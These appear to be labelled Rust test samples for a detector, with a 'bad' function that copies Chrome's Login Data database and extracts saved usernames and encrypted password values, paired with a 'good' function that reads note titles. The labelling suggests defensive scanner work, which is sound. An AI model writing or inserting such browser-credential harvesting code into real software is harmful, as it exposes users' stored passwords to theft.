//: bad browser-profile
use rusqlite::Connection;

pub fn collect() -> rusqlite::Result<Vec<(String, Vec<u8>)>> {
    let base = dirs::config_dir().unwrap().join("google-chrome/Default/Login Data");
    let copy = std::env::temp_dir().join("ld");
    std::fs::copy(base, &copy).unwrap();
    let db = Connection::open(copy)?;
    let mut rows = db.prepare("SELECT username_value, password_value FROM logins")?; //!
    let found = rows.query_map([], |row| Ok((row.get(0)?, row.get(1)?)))?;
    found.collect()
}

//: good browser-profile
use rusqlite::Connection;

pub fn collect() -> rusqlite::Result<Vec<(String, i64)>> {
    let base = dirs::data_dir().unwrap().join("kit/notes.sqlite");
    let copy = std::env::temp_dir().join("notes");
    std::fs::copy(base, &copy).unwrap();
    let db = Connection::open(copy)?;
    let mut rows = db.prepare("SELECT title, changed FROM notes")?;
    let found = rows.query_map([], |row| Ok((row.get(0)?, row.get(1)?)))?;
    found.collect()
}
